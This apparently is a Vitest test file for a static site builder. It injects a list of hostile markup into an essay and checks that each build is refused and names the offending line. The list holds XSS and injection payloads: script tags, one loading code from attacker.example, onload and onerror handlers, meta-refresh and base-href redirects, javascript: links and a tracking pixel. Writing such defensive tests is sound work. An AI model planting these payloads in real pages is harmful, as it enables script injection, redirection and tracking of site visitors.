import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { build, contentsOf, copyProject, differences, project } from './project.ts';

let folder: string;
let before: Map<string, string>;

beforeAll(() => {
  folder = join(mkdtempSync(join(tmpdir(), 'stillwater-hostile-')), 'elsewhere');
  copyProject(folder);
  cpSync(join(project, 'dist'), join(folder, 'dist'), { recursive: true });
  before = contentsOf(join(folder, 'dist'));
});
afterAll(() => rmSync(join(folder, '..'), { recursive: true, force: true }));

const file = 'content/essays/fog-and-return.md';

/** What someone could write into an essay to run, load, send or move something. `src/content-loader` has many more kinds. */
const hostile = [
  '<script>alert(1)</script>',
  'words <script src="https://attacker.example/x.js"></script> words',
  '<style>body { display: none }</style>',
  '<meta http-equiv="refresh" content="0; url=https://attacker.example">',
  '<base href="https://attacker.example/">',
  '<svg onload="alert(1)"></svg>',
  '<img src="x" onerror="alert(1)">',
  '<iframe src="https://attacker.example"></iframe>',
  '<a href="/stack" ping="https://attacker.example">words</a>',
  '<!-- a note -->',
  '[words](javascript:alert(1))',
  '[words](data:text/html,words)',
  '[words](http://attacker.example)',
  '[words](https://shop.example.org/?tag=example-20)',
  '[words](https://www.amazon.com/s?k=magnesium)',
  '![words](https://attacker.example/pixel.png)',
];

test.each(hostile)('G8 an essay with %s is never published, and its line is named', async (markup) => {
  const text = readFileSync(join(project, file), 'utf8');
  writeFileSync(join(folder, file), `${text}\n${markup}\n`);
  const { code, output } = await build(folder);
  writeFileSync(join(folder, file), text);
  expect(code).toBe(1);
  expect(output).toContain(`${file}\n`);
  expect(output).toContain(`\n  line ${text.split('\n').length + 1}, text: `);
  expect(output).not.toMatch(/\n\s+at |node_modules/);
  expect(differences(before, contentsOf(join(folder, 'dist')))).toEqual([]);
});
